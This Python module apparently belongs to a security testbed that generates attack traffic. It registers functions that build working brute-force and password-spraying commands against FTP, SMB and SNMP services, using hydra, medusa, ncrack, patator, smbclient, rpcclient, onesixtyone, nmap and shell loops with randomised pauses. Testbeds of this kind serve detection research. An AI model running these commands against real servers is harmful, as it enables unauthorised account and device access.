"""Guessing of passwords of file servers and of communities of SNMP."""

from testbed.attacks.guessing import BRUTE, SPRAY, each_guess, hydra, medusa, ncrack, patator, server
from testbed.attacks.material import ANYWHERE, INSIDE, passwords, pause, words
from testbed.catalogue import Assault, attack


@attack("brute_ftp", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("ftp",), packages=("hydra",), seconds=35)
def hydra_ftp(c):
    return Assault(hydra(c, "ftp", server(c, "ftp")))


@attack("brute_ftp", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("ftp",), packages=("medusa",), seconds=35)
def medusa_ftp(c):
    return Assault(medusa(c, "ftp", server(c, "ftp")))


@attack("brute_ftp", technique=BRUTE, tool="ncrack", origins=ANYWHERE, needs=("ftp",), packages=("ncrack",), seconds=35)
def ncrack_ftp(c):
    return Assault(ncrack(c, "ftp", server(c, "ftp")))


@attack(
    "brute_ftp", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("ftp",), packages=("patator",), seconds=35
)
def patator_ftp(c):
    return Assault(patator(c, "ftp_login", f"host={server(c, 'ftp')}", "code=530"))


@attack("brute_ftp", technique=BRUTE, tool="lftp", origins=ANYWHERE, needs=("ftp",), packages=("lftp",), seconds=35)
def lftp_loop(c):
    body = (
        f'timeout 8 lftp -u "$user,$password" {server(c, "ftp")} -e "set net:max-retries 1; set net:timeout 5;'
        ' set ftp:ssl-allow no; ls; bye"'
    )
    return Assault(each_guess(c, body, wait=pause(c.between(0.0, 0.8))))


@attack("brute_ftp", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("ftp",), packages=("curl",), seconds=35)
def curl_ftp(c):
    return Assault(
        each_guess(c, f'curl -s -m 8 -u "$user:$password" ftp://{server(c, "ftp")}/', 4, 14, pause(c.between(0.0, 0.6)))
    )


@attack(
    "brute_smb", technique=SPRAY, tool="patator", origins=INSIDE, needs=("files",), packages=("patator",), seconds=30
)
def patator_smb(c):
    return Assault(patator(c, "smb_login", f"host={server(c, 'files')}", "fgrep=STATUS_LOGON_FAILURE"))


@attack(
    "brute_smb",
    technique=SPRAY,
    tool="smbclient",
    origins=ANYWHERE,
    needs=("files",),
    packages=("smbclient",),
    seconds=30,
)
def smbclient_loop(c):
    target = server(c, "files")
    body = c.choose(
        f'smbclient -U "$user%$password" //{target}/docs -c ls', f'smbclient -U "$user%$password" -L {target}'
    )
    return Assault(each_guess(c, f"timeout 8 {body}", 6, 10, pause(c.between(0.0, 0.7))))


@attack(
    "brute_smb",
    technique=SPRAY,
    tool="rpcclient",
    origins=INSIDE,
    needs=("files",),
    packages=("smbclient",),
    seconds=30,
)
def rpcclient_loop(c):
    return Assault(
        each_guess(
            c,
            f'timeout 8 rpcclient -U "$user%$password" {server(c, "files")} -c getusername',
            6,
            10,
            pause(c.between(0.0, 0.7)),
        )
    )


@attack("brute_smb", technique=SPRAY, tool="medusa", origins=INSIDE, needs=("files",), packages=("medusa",), seconds=30)
def medusa_smb(c):
    return Assault(medusa(c, "smbnt", server(c, "files")))


@attack(
    "snmp_brute",
    technique=BRUTE,
    tool="onesixtyone",
    origins=ANYWHERE,
    needs=("snmp",),
    packages=("onesixtyone",),
    seconds=30,
)
def onesixtyone(c):
    return Assault(f"onesixtyone -w {c.between(10, 120)} -c {passwords(c, c.between(40, 54))} {server(c, 'snmp')}")


@attack(
    "snmp_brute",
    technique=BRUTE,
    tool="nmap snmp-brute",
    origins=ANYWHERE,
    needs=("snmp",),
    packages=("nmap",),
    seconds=30,
)
def nmap_snmp(c):
    return Assault(
        words(
            "nmap -n -Pn --send-ip -sU -p161 --script snmp-brute --script-args",
            f"snmp-brute.communitiesdb={passwords(c, c.between(20, 50))}",
            server(c, "snmp"),
        )
    )


@attack("snmp_brute", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("snmp",), packages=("hydra",), seconds=30)
def hydra_snmp(c):
    return Assault(f"hydra -I -q -t {c.between(1, 8)} -P {passwords(c, c.between(20, 50))} snmp://{server(c, 'snmp')}")


@attack(
    "snmp_brute", technique=BRUTE, tool="snmpget", origins=ANYWHERE, needs=("snmp",), packages=("snmp",), seconds=40
)
def snmpget_loop(c):
    oid = c.choose("1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.5.0", "1.3.6.1.2.1.1.3.0")
    return Assault(
        f"for community in $(cat {passwords(c, c.between(20, 50))}); do snmpget -v{c.choose('1', '2c')} -r 0"
        f" -t {c.choose('0.2', '0.5', '1')} -c $community {server(c, 'snmp')} {oid};"
        f" {pause(c.between(0.0, 0.4))}; done"
    )


@attack(
    "snmp_brute", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("snmp",), packages=("patator",), seconds=30
)
def patator_snmp(c):
    return Assault(
        f"patator snmp_login host={server(c, 'snmp')} version={c.choose('1', '2')} community=FILE0"
        f" 0={passwords(c, c.between(12, 40))} -t {c.between(1, 4)} -x ignore:mesg='No SNMP response received"
        " before timeout'"
    )
